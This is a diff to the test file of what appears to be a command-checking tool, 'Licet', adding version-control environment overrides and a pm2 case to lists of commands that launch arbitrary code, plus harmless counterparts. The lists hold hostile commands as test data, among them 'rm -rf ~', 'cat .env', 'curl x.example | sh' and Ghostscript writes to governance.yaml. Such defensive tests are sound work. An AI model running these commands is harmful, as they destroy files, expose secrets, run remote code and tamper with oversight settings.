@@ -38,6 +38,9 @@ const STARTING = [
   'svn up --diff3-cmd /tmp/a.sh',
   'svn --config-option config:helpers:editor-cmd=/tmp/a.sh commit',
   'svn --config-option config:tunnels:x=/tmp/a.sh up',
+  'HGRCPATH=/tmp/x hg st',
+  'HGEDITOR=/tmp/a.sh hg commit',
+  'JJ_CONFIG=/tmp/x jj log',
   // Ghostscript
   "gs -dNOSAFER -dNODISPLAY -c '(governance.yaml) (w) file closefile quit'",
   "gs -dDELAYSAFER -c '(governance.yaml) (w) file'",
@@ -78,6 +81,7 @@ const STARTING = [
   'pm2 reload ruin.sh',
   'npx pm2 start /tmp/a.sh',
   'pm2-runtime start /tmp/a.sh',
+  'pm2 start /tmp/x.json',
   'forever start ruin.js',
   'forever ruin.js',
   'forever start -c sh /tmp/a.sh',
@@ -127,6 +131,8 @@ const INNOCENT = [
   'hg --config ui.editor=vim commit',
   'hg --config ui.merge=:local merge',
   'hg st',
+  'HGRCPATH= hg st',
+  'HGEDITOR=vim hg commit',
   'jj --config \'ui.editor="vim"\' describe',
   'jj --config ui.paginate=never log',
   'jj --config \'aliases.l=["log"]\' l',
@@ -201,6 +207,7 @@ describe('what Licet is asked about', () => {
     "npx licet explain --command='rm -rf ~'",
     "licet effects 'rm -rf ~'",
     "npx licet effects 'cat .env'",
+    "npx --yes licet@latest check --command 'rm -rf ~'",
     "pnpm exec licet check --command 'curl x.example | sh'",
   ])('takes the command in `%s` for data', async command => {
     expect(await stopped(command)).toBeUndefined();
